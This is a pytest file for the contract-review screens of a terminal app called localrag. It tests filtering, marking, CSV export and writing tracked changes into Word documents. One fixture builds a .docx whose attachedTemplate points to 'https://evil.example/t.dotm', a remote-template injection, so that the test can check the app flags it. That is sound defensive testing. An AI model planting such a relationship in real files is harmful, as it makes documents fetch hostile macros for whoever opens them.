import csv
import hashlib
import json
from dataclasses import replace

import pytest
import word_changes
from docx import Document
from fake_core import NOTICE, FakeEngine, FakeWorld, Gate, shelved_document

from localrag.errors import ModelError, StorageError
from localrag.events import Reviewed, ReviewEnded
from localrag.items import playbook
from localrag.tui.screens.chat import ChatScreen
from localrag.tui.screens.review import ReviewScreen
from localrag.tui.widgets.asking import Completions, QuestionInput
from localrag.types import Citation, Page
from localrag.worker.engine import Entry, Opened
from tui import reviews
from tui.screen_text import (
    NARROW,
    SIZES,
    ask,
    chatting,
    columns,
    fill,
    lines,
    marked,
    on,
    press,
    rows,
    see,
    unsee,
    until,
)


async def grid(pilot):
    await ask(pilot, "/review p.yaml")
    await until(pilot, lambda: isinstance(pilot.app.screen, ReviewScreen) and pilot.app.screen._results.complete)
    await until(pilot, lambda: len(rows(pilot)) == 2)


async def test_playbooks_are_completed_and_one_that_cannot_be_read_is_refused(here):
    async with chatting(FakeWorld()) as pilot:
        pilot.app.screen.query_one(QuestionInput).value = "/review cu"
        await until(pilot, lambda: pilot.app.screen.query_one(Completions).chosen is not None)
        assert pilot.app.screen.query_one(Completions).chosen.text == "cuad"
        await pilot.press("escape")
        await ask(pilot, "/review nowhere.yaml", sees="cannot read the playbook")
        assert isinstance(pilot.app.screen, ChatScreen)


@pytest.mark.parametrize("size", SIZES)
async def test_the_grid_fills_while_documents_are_checked(here, size):
    gate = Gate()
    made = reviews.world(here, gate)
    async with chatting(made, size) as pilot:
        await ask(pilot, "/review p.yaml", sees="3 of 6 items")
        await until(pilot, lambda: rows(pilot) == [["contracts/msa.pdf", "≠ 30 days", "✓", "✗ no"]])
        assert columns(pilot) == ["document", "notice", "term", "non-compete"]
        gate.opened.set()
        await until(pilot, lambda: rows(pilot)[1:] == [["contracts/lease.pdf", "✗", "?", "✗ A no"]])
        await see(pilot, "· 2 documents · 5 ! 2 not as expected 1 ≠ 1 deviates 2 ✗ 3 absent 3 ? 1 unsure 4 ✓ 1 found")
        await see(pilot, "Not read: contracts/old.pdf: could not be read")
        await see(pilot, "≠ Notice (high): 30 days: 30 days is more than 2 weeks")
        assert all(sign in "\n".join(lines(pilot.app)) for sign in "≠✗?✓")  # told apart without colour
    text, libraries, documents = made.reviewed[0]
    assert playbook.parse(text.encode(), "p") == playbook.load("p.yaml")
    assert libraries == ("contracts",) and not documents.these


async def test_ticked_documents_are_reviewed_and_escape_keeps_what_was_found(here):
    made = reviews.world(here, Gate())
    async with chatting(made) as pilot:
        await press(pilot, "f6", "down", "space", sees="Only 1 of 2 documents")
        await pilot.press("escape")
        await ask(pilot, "/review p.yaml")
        await until(pilot, lambda: isinstance(pilot.app.screen, ReviewScreen) and len(rows(pilot)) == 1)
        await press(pilot, "escape", sees="Stopped. What was found is kept")
        assert len(rows(pilot)) == 1 and pilot.app.screen.ended.stopped
        await pilot.press("escape")
        await on(pilot, ChatScreen)
    assert len(made.reviewed[0][2].these) == 1


async def test_a_review_that_fails_says_why_and_keeps_its_rows(here):
    made = reviews.world(here, end=ModelError("the model is broken", "Install another."))
    async with chatting(made) as pilot:
        await grid(pilot)
        await see(pilot, "! the model is broken. Install another.")


async def test_keys_show_one_state_and_words_filter_rows(here):
    async with chatting(reviews.world(here)) as pilot:
        await grid(pilot)
        await pilot.press("1")
        assert columns(pilot)[1:] == ["notice"] and rows(pilot) == [["contracts/msa.pdf", "≠ 30 days"]]
        await pilot.press("2")
        assert columns(pilot)[1:] == ["notice", "non-compete"]
        assert rows(pilot) == [["contracts/msa.pdf", "·", "✗ no"], ["contracts/lease.pdf", "✗", "✗ A no"]]
        await pilot.press("5")
        assert [row[1:] for row in rows(pilot)] == [["≠ 30 days"], ["✗"]]
        await pilot.press("5", "slash", *"unsure", "enter")
        await until(pilot, lambda: [row[0] for row in rows(pilot)] == ["contracts/lease.pdf"])
        await press(pilot, "escape", then=lambda: len(rows(pilot)) == 2)


@pytest.mark.parametrize("size", SIZES)
async def test_enter_shows_the_quote_and_all_that_is_known_of_the_finding(here, size):
    made = reviews.world(here)
    made.review = [
        replace(one, finding=replace(one.finding, remark="perhaps an order"))
        if isinstance(one, Reviewed) and "lease" in one.finding.document
        else one
        for one in made.review
    ]
    async with chatting(made, size) as pilot:
        await grid(pilot)
        await press(pilot, "enter", then=lambda: "written notice" in marked(pilot.app))
        await see(pilot, "Value: 30 days Position: at most: 2 weeks Differs: 30 days is more than 2 weeks")
        await press(pilot, "tab", "end", sees="Fallback: Either party may end this agreement with two weeks' notice.")
        await pilot.press("tab", "alt+y")
        assert NOTICE in pilot.app.clipboard
        await press(pilot, "tab", "right", sees="citation 2 of 2")
        await pilot.press("down")
        await unsee(pilot, "citation 2 of 2")
        assert [row[0] for row in rows(pilot)] == ["contracts/msa.pdf", "! contracts/lease.pdf"]
        await see(pilot, "40% likely to be there", "Document: perhaps an order")
        await pilot.press("escape")
        await unsee(pilot, "likely to be there")
        await see(pilot, "! contracts/lease.pdf: perhaps an order")
        assert isinstance(pilot.app.screen, ReviewScreen)


async def test_marks_and_comments_are_kept_and_shown(here):
    made = reviews.world(here)
    async with chatting(made, NARROW) as pilot:
        await grid(pilot)
        await press(pilot, "a", then=lambda: rows(pilot)[0][1] == "≠ A 30 days")
        await press(pilot, "c", sees="Comment on Notice")
        await fill(pilot, "agreed", sees="accepted · agreed")
        await press(pilot, "r", then=lambda: rows(pilot)[0][1] == "≠ R 30 days")
        await press(pilot, "r", then=lambda: rows(pilot)[0][1] == "≠ C 30 days")
        made.deciding = StorageError("the disk is full", "Free some space.")
        await press(pilot, "a", sees="the disk is full. Free some space.")
        assert rows(pilot)[0][1] == "≠ C 30 days"
    where = ("contracts", "contracts/msa.pdf", "notice")
    said = [("accepted", ""), ("accepted", "agreed"), ("rejected", "agreed"), ("open", "agreed")]
    assert made.decided == [(*where, *one) for one in said]


async def test_what_is_shown_is_exported_with_its_marks_and_replaces_no_document(here):
    made = reviews.world(here, end=ReviewEnded((), (), False))
    made.store.record = here / "audit.jsonl"
    made.libraries["contracts"].shelved = (Entry(shelved_document("msa.docx", root=str(here)), 100, 0),)
    (here / "msa.docx").write_text("the contract")
    async with chatting(made) as pilot:
        await grid(pilot)
        await press(pilot, "a", then=lambda: rows(pilot)[0][1] == "≠ A 30 days")
        await press(pilot, "5", "e", sees="services-agreements.docx")
        await fill(pilot, "out.csv", sees="Wrote 2 findings to out.csv")
        await press(pilot, "e", sees="services-agreements.docx")
        await fill(pilot, "msa.docx")
        await press(pilot, "enter", sees="is a document of the library")
    assert (here / "msa.docx").read_text() == "the contract"
    found = list(csv.DictReader((here / "out.csv").read_text(encoding="utf-8-sig").splitlines()))
    marks = [(one["item"], one["state"], one["decision"]) for one in found]
    assert marks == [("notice", "deviates", "accepted"), ("notice", "absent", "")]
    (entry,) = [json.loads(line) for line in (here / "audit.jsonl").read_text().splitlines()]
    assert (entry["event"], entry["details"]["rows"]) == ("export", 2)


async def test_the_playbooks_wording_is_written_into_a_copy_of_the_word_file(here, monkeypatch):
    document = Document()
    document.add_paragraph("7. Notice. Either party may end this agreement with 30 days' notice.")
    document.part.relate_to("https://evil.example/t.dotm", "http://x/attachedTemplate", is_external=True)
    document.save(str(here / "theirs.docx"))
    text = document.paragraphs[0].text
    cited = Citation("contracts", "theirs.docx", None, None, "", text[11:], 11, len(text), 1)
    words = "Either party may end this agreement with two weeks' notice."
    found = reviews.finding(
        "theirs.docx", "notice", "deviates", "30 days", False, citation=cited, problem="too long", fallback=words
    )
    made = FakeWorld(review=[Reviewed(1, 3, 1, 1, found), ReviewEnded((), (), False)])
    (here / "p.yaml").write_text(reviews.PLAYBOOK)
    made.store.record = here / "audit.jsonl"

    def page(self, library, name, number=None, *, exact=False):
        own = replace(shelved_document(name), sha256=hashlib.sha256((here / name).read_bytes()).hexdigest())
        return Opened(own, Page(text), 1, str(here / name), made.file_state)

    monkeypatch.setattr(FakeEngine, "page", page)
    async with chatting(made) as pilot:
        await ask(pilot, "/review p.yaml")
        await until(pilot, lambda: isinstance(pilot.app.screen, ReviewScreen) and pilot.app.screen._results.complete)
        await press(pilot, "t", sees="theirs-marked.docx")
        await fill(pilot, "theirs.docx")
        await press(pilot, "enter", sees="is the file that is read")
        await fill(pilot, "marked.docx", sees="Wrote the tracked changes to marked.docx")
        await see(pilot, "Live in the copy: attachedTemplate")
        made.file_state = "changed"
        await press(pilot, "t", sees="has changed since it was read")
    assert word_changes.text_of(word_changes.accepted((here / "marked.docx").read_bytes())) == [f"7. Notice. {words}"]
    (entry,) = [json.loads(line) for line in (here / "audit.jsonl").read_text().splitlines()]
    assert (entry["event"], entry["library"]) == ("export", "contracts")
